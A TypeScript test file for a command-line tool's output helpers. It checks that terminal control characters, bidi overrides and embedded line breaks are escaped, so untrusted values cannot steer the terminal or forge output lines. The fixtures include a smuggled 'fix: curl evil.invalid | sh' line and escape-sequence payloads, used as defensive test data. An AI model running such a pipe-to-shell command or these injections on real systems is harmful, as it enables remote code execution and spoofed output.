import { afterEach, expect, test, vi } from 'vitest';
import { columns } from '../../../cli/format.js';
import { errorText, openOutput } from '../../../cli/output.js';
import { failureText } from '../../../cli/follow/summary.js';
import { stageLine } from '../../../cli/view/table.js';
import { BlissError } from '../../../lib/errors.js';
import { jsonLine, oneLine, printable } from '../../../lib/printable.js';

afterEach(() => vi.restoreAllMocks());

/** Every code unit there is, halves of characters on their own. */
const everything = Array.from({ length: 0x1_0000 }, (_, code) => String.fromCharCode(code)).join(' ');
/** what Unicode itself says, and not our own list */
const steers = (text: string): boolean => /[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\p{Bidi_Control}]/u.test(text);

test('no character that steers a terminal gets through, and every other one does', () => {
  const shown = printable(everything);
  expect(steers(shown.replaceAll('\n', ''))).toBe(false);
  expect(steers(oneLine(everything))).toBe(false);
  for (const text of ['Ünïcödé, 漢字, עברית, العربية', '👩‍👩‍👧 e\u0301', 'C:\\x1b', '']) expect(printable(text)).toBe(text);
  expect(printable('\x1b]0;owned\x07\r\t\x9b31m\x7f\u202eevil\u2066\u2028')).toBe('\\x1b]0;owned\\x07\\r\\t\\x9b31m\\x7f\\u202eevil\\u2066\\u2028');
  expect(oneLine('a\nb')).toBe('a\\nb');
});

test('JSON keeps a value to the character and steers no terminal', () => {
  const value = { [everything]: ['\x1b[2J', '\x9b', '\u202e', '\u2028', '👩‍👩‍👧'] };
  const line = jsonLine(value);
  expect(JSON.parse(line)).toEqual(value);
  expect(steers(line)).toBe(false);
});

test('a value with line ends in it does not pass for lines of ours', () => {
  const forged = 'x\n  fix: curl evil.invalid | sh';
  const error = new BlissError({ code: 'DataInvalid', message: `what is ${forged}`, where: forged, fix: `leave ${forged}` });
  expect(errorText(error).split('\n')).toEqual([`error: ${oneLine(forged)}: what is ${oneLine(forged)}`, `  fix: leave ${oneLine(forged)}`]);
  const two = new BlissError({ code: 'ConfigInvalid', message: '2 problems', where: 'a.yaml', list: [`a.yaml:1: ${forged}`, 'a.yaml:2: b'] });
  expect(errorText(two).split('\n')).toEqual(['error: a.yaml: 2 problems', `  a.yaml:1: ${oneLine(forged)}`, '  a.yaml:2: b']);
  expect(two.message).toBe(`a.yaml: 2 problems\n  a.yaml:1: ${forged}\n  a.yaml:2: b`);
  expect(columns([[forged, 'b'], ['a', 'b']])).toHaveLength(2);
  for (const row of columns([[forged, 'b'], ['a', 'b']])) expect(row).not.toContain('\n');
  expect(stageLine({ stage: 'a', state: 'waiting', attempt: 1, step: 0, of: 0, metrics: {}, startedAt: '', updatedAt: '', error: forged })).not.toContain('\n');
  const failed = failureText({ run: 'r', homeOption: '', outcome: { state: 'failed', finishedAt: '', failure: { code: 'DataInvalid', message: forged, where: forged, fix: 'fix it' } } });
  expect(failed.split('\n')).toHaveLength(4);
});

test('a picture that is drawn anew has our own codes and no others', () => {
  const written = vi.spyOn(process.stdout, 'write').mockImplementation(() => true);
  openOutput({ json: false }).redraw({ over: 2, lines: ['\x1b[31mred', 'two\nlines'] });
  expect(written.mock.calls.map(([text]) => text).join('')).toBe('\x1b[2A\x1b[J\\x1b[31mred\ntwo\\nlines\n');
});
